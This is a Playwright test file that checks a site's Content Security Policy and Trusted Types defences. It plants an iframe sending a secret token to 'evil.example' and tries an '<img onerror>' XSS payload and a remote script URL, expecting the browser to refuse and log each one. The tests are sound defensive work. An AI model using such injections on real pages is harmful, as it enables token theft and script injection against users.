import { eventually } from "@foyer/testing/running-system";
import type { Page } from "@playwright/test";
import { enterCard, newCustomer, section } from "../customers.ts";
import { expect, test } from "../fixtures.ts";
import { signIn } from "../people.ts";
import { noteViolations } from "../policy-violations.ts";

/** Returns the page's error for a string in a place for code; an empty text if the page accepts it. */
const tried = (page: Page, what: "address" | "markup" | "code", given: string): Promise<string> =>
  page.evaluate(
    ([kind, text]) => {
      const script = document.createElement("script");
      try {
        if (kind === "address") script.src = text;
        else if (kind === "markup") document.createElement("div").innerHTML = text;
        else script.text = text;
        return "";
      } catch (error) {
        return String(error);
      }
    },
    [what, given] as const,
  );

test("R-50 a violation is detected by the tests, refused by the browser, and logged once", async ({
  browser,
  system,
}) => {
  // A separate context, because the contexts of journeys allow no violation.
  const context = await browser.newContext({ baseURL: system.url });
  const violations = await noteViolations(context);
  const page = await context.newPage();
  await page.goto("/register?token=a-secret-of-a-mail");
  const plant = (): Promise<void> =>
    page.evaluate(() => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/planted?token=a-secret-of-a-mail";
      document.body.append(frame);
    });
  await plant();
  await eventually(
    async () => system.output().includes("frame-src refused https://evil.example/"),
    "the report in the log",
  );
  await plant();
  expect(await tried(page, "markup", "<b>planted</b>")).toContain("TrustedHTML");
  const reported = (): string[] =>
    system
      .output()
      .split("\n")
      .filter((line) => line.includes("a browser reports a failure"));
  await eventually(async () => reported().some((line) => line.includes("trusted-types-sink")), "the second report");
  // The page reports violations after a delay.
  await expect
    .poll(() => violations.map((violation) => violation.split(" ")[1]))
    .toEqual(["frame-src", "frame-src", "require-trusted-types-for"]);
  expect(reported().filter((line) => line.includes("evil.example"))).toHaveLength(1);
  expect(system.output()).not.toContain("a-secret-of-a-mail");
  await context.close();
});

test("R-50 no string becomes code, before and after the provider's script was allowed", async ({ browser, system }) => {
  const context = await browser.newContext({ baseURL: system.url });
  const page = await context.newPage();
  await signIn(page, await newCustomer(system, () => [], ["4242424242424242"]));
  const refusals = async (): Promise<void> => {
    expect(await tried(page, "address", "https://evil.example/x.js")).toContain("TrustedScriptURL");
    expect(await tried(page, "address", `${system.url}/assets/any.js`)).toContain("TrustedScriptURL");
    expect(await tried(page, "markup", "<img src=x onerror=alert(1)>")).toContain("TrustedHTML");
    expect(await tried(page, "code", "alert(1)")).toContain("TrustedScript");
  };
  await refusals();
  expect(await tried(page, "address", "/sandbox/stripe.js")).toContain("TrustedScriptURL");

  const payment = section(page, "Payment");
  await payment.getByRole("button", { name: "Edit" }).click();
  await payment.getByRole("button", { name: "Add card" }).click();
  await enterCard(page, "5555555555554444");
  expect(await tried(page, "address", "/sandbox/stripe.js")).toBe("");
  await refusals();
  await context.close();
});
